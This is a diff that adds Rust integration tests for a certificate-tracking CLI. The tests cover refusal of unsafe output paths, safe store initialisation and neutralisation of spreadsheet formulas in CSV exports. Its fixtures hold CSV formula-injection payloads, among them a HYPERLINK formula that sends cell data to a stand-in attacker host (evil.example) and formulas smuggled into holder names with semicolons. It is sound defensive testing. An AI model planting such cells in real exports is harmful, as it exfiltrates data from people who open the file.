@@ -242,6 +242,140 @@ fn backup_refuses_a_file_inside_the_store() {
     ));
 }
 
+#[test]
+fn no_output_goes_inside_the_store() {
+    let (dir, db, _) = store_and_backup();
+    let link = dir.path().join("link");
+    symlink(&db, &link).unwrap();
+    let before = fs::read(db.join("sled/db")).unwrap();
+    let targets = [
+        db.join("sled/db"),
+        db.join("seal"),
+        db.join("out.csv"),
+        link.join("sled/db"),
+    ];
+    for target in &targets {
+        let target = target.to_str().unwrap();
+        for args in [
+            &["export", "municipalities", "--format", "csv", "-o", target][..],
+            &["export", "certificates", "-o", target],
+            &["report", "-o", target],
+            &["backup", target],
+        ] {
+            let err = failed(ocsae(&db, args));
+            assert!(err.contains("is inside the store"), "{args:?}: {err}");
+        }
+    }
+    assert_eq!(
+        fs::read(db.join("sled/db")).unwrap(),
+        before,
+        "the store is as it was"
+    );
+    assert!(!db.join("out.csv").exists());
+    // The store still opens and reads.
+    let json: serde_json::Value = serde_json::from_str(&ok(ocsae(&db, &["export", "certificates"]))).unwrap();
+    assert_eq!(json.as_array().unwrap().len(), 2);
+}
+
+#[test]
+fn an_output_that_is_a_device_a_pipe_or_a_directory_is_refused_and_dash_is_stdout() {
+    use std::os::unix::fs::FileTypeExt;
+    let (dir, db, _) = store_and_backup();
+    let fifo = dir.path().join("fifo");
+    let name = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
+    assert_eq!(unsafe { libc::mkfifo(name.as_ptr(), 0o600) }, 0);
+    let to_null = dir.path().join("null-link");
+    symlink("/dev/null", &to_null).unwrap();
+    let mut nodes = vec![fifo.clone(), to_null.clone(), dir.path().to_path_buf()];
+    // A device of our own, as root can make one (the repro's `mknod n c 1 3`).
+    let device = dir.path().join("n");
+    let name = std::ffi::CString::new(device.as_os_str().as_encoded_bytes()).unwrap();
+    if unsafe { libc::mknod(name.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 3)) } == 0 {
+        nodes.push(device.clone());
+    }
+    for node in &nodes {
+        let target = node.to_str().unwrap();
+        for args in [
+            &["export", "rollout", "-o", target][..],
+            &["report", "-o", target],
+            &["backup", target],
+        ] {
+            let err = failed(ocsae(&db, args));
+            assert!(
+                err.contains("is not a regular file") && err.contains("use -o -"),
+                "{args:?}: {err}"
+            );
+        }
+    }
+    assert!(fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
+    assert!(fs::symlink_metadata(&to_null).unwrap().file_type().is_symlink());
+    if nodes.contains(&device) {
+        assert!(
+            fs::symlink_metadata(&device)
+                .unwrap()
+                .file_type()
+                .is_char_device()
+        );
+    }
+    // `-o -` is standard output, for every writer.
+    let json: serde_json::Value =
+        serde_json::from_str(&ok(ocsae(&db, &["export", "certificates", "-o", "-"]))).unwrap();
+    assert_eq!(json.as_array().unwrap().len(), 2);
+    assert!(ok(ocsae(&db, &["report", "-o", "-"])).contains("Noguera"));
+    let out = ocsae(&db, &["backup", "-"]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let backup: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(backup["certificates"].as_array().unwrap().len(), 2);
+    assert!(
+        text(&out.stderr).contains("Backup written"),
+        "{}",
+        text(&out.stderr)
+    );
+    assert!(!dir.path().join("-").exists());
+}
+
+#[test]
+fn init_and_the_first_run_refuse_a_directory_holding_other_files() {
+    let dir = tempfile::tempdir().unwrap();
+    let thesis = dir.path().join("thesis");
+    fs::create_dir_all(thesis.join("sub")).unwrap();
+    fs::write(thesis.join("thesis.txt"), "chapter 1").unwrap();
+    let before = snapshot(&thesis);
+    let err = failed(ocsae(&thesis, &["init"]));
+    assert!(
+        err.contains("is not an ocsae store nor an empty directory"),
+        "{err}"
+    );
+    // The dashboard's first run would create it too; it is refused before the screen opens.
+    let err = failed(ocsae(&thesis, &[]));
+    assert!(
+        err.contains("is not an ocsae store nor an empty directory"),
+        "{err}"
+    );
+    assert_eq!(snapshot(&thesis), before, "nothing was added");
+    // `--db .` in a working directory is the same directory.
+    let out = std::process::Command::new(common::pty::binary())
+        .args(["--db", ".", "--lang", "en", "init"])
+        .current_dir(&thesis)
+        .env("XDG_CONFIG_HOME", dir.path().join("no-config"))
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        text(&out.stderr).contains("is not an ocsae store"),
+        "{}",
+        text(&out.stderr)
+    );
+    assert_eq!(snapshot(&thesis), before);
+    // An empty directory, or a new one, takes a store; a store stays one.
+    let empty = dir.path().join("empty");
+    fs::create_dir(&empty).unwrap();
+    ok(ocsae(&empty, &["init"]));
+    ok(ocsae(&dir.path().join("new/db"), &["init"]));
+    let err = failed(ocsae(&empty, &["init"]));
+    assert!(!err.contains("not an ocsae store"), "{err}");
+}
+
 /// A row whose cells a spreadsheet would run, as typed in the office's sheet.
 const FORMULAS: &str = "ine_code;holder;role;type;operation;urgent;status;received_at;issued_at;reason;notes;status_reason\n\
     252228;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\";mayor;tcat;new;no;received;2026-12-01 09:00;;;+34 973 00 00 00;@SUM(1)\n\
@@ -324,6 +458,77 @@ fn csv_exports_neutralise_formulas_and_read_back_exactly() {
     );
 }
 
+/// Every cell a spreadsheet finds in `csv` when it splits on `sep` (as LibreOffice
+/// does: a quote that does not open a cell is text).
+fn cells_split_on(csv: &str, sep: u8) -> Vec<String> {
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(sep)
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
+    reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+        .collect()
+}
+
+#[test]
+fn a_spreadsheet_splitting_on_semicolons_finds_no_formula_either() {
+    let (dir, db, _) = store_and_backup();
+    let holders = [
+        "a;=2+3;b",
+        "Puig, Maria;=2*21;x",
+        "c;\"=3+4\";d",
+        "e;=HYPERLINK(\"http://evil.example\";\"x\")",
+        "f;'g;@h;-i;+j",
+    ];
+    for holder in holders {
+        ok(ocsae(
+            &db,
+            &[
+                "cert",
+                "add",
+                "--municipality",
+                "252228",
+                "--role",
+                "other",
+                "--type",
+                "tcat",
+                "--holder",
+                holder,
+            ],
+        ));
+    }
+    let csv = ok(ocsae(&db, &["export", "certificates", "--format", "csv"]));
+    for sep in [b',', b';'] {
+        for cell in cells_split_on(&csv, sep) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} read with {:?}",
+                sep as char
+            );
+        }
+    }
+    assert!(csv.contains("a;'=2+3;b"), "{csv}");
+    // Imported again, each holder is exactly what was typed.
+    let exported = dir.path().join("exported.csv");
+    fs::write(&exported, &csv).unwrap();
+    let other = tempfile::tempdir().unwrap();
+    let other_db = other.path().join("db");
+    ok(ocsae(&other_db, &["init"]));
+    ok(ocsae(
+        &other_db,
+        &["import", "certificates", exported.to_str().unwrap()],
+    ));
+    let json: serde_json::Value =
+        serde_json::from_str(&ok(ocsae(&other_db, &["export", "certificates"]))).unwrap();
+    let back: Vec<&str> = json.as_array().unwrap()[2..]
+        .iter()
+        .map(|c| c["holder"].as_str().unwrap())
+        .collect();
+    assert_eq!(back, holders);
+}
+
 #[test]
 fn restore_reads_only_a_regular_file_and_never_waits_on_a_pipe() {
     let dir = tempfile::tempdir().unwrap();
@@ -361,4 +566,42 @@ fn restore_reads_only_a_regular_file_and_never_waits_on_a_pipe() {
         let err = failed(ocsae(&db, &["restore", dev]));
         assert!(err.contains(dev), "{err}");
     }
+}
+
+/// The README's table of the store's files, by name.
+fn readme_files_table() -> Vec<String> {
+    let readme = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
+    let files = readme.split("\n## Files\n").nth(1).unwrap();
+    let table = files.split("\n### ").next().unwrap();
+    table
+        .lines()
+        .filter_map(|l| l.strip_prefix("| `"))
+        .map(|l| l.split('`').next().unwrap().trim_end_matches('/').to_string())
+        .collect()
+}
+
+#[test]
+fn the_readme_names_every_file_a_store_holds_and_says_an_import_files_again() {
+    let (dir, db, _) = store_and_backup();
+    let documented = readme_files_table();
+    for entry in fs::read_dir(&db).unwrap() {
+        let name = entry.unwrap().file_name().into_string().unwrap();
+        assert!(
+            documented.contains(&name),
+            "{name} is not in the README's Files table: {documented:?}"
+        );
+    }
+    // Importing the same file again files its requests again, as the README says.
+    let office = dir.path().join("office.csv");
+    ok(ocsae(&db, &["import", "certificates", office.to_str().unwrap()]));
+    let json: serde_json::Value = serde_json::from_str(&ok(ocsae(&db, &["export", "certificates"]))).unwrap();
+    let holders: Vec<&str> = json
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["holder"].as_str().unwrap())
+        .collect();
+    assert_eq!(holders, ["Maria Puig", "Jordi Solé", "Maria Puig", "Jordi Solé"]);
+    let readme = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
+    assert!(readme.contains("importing the same file twice files its requests twice"));
 }
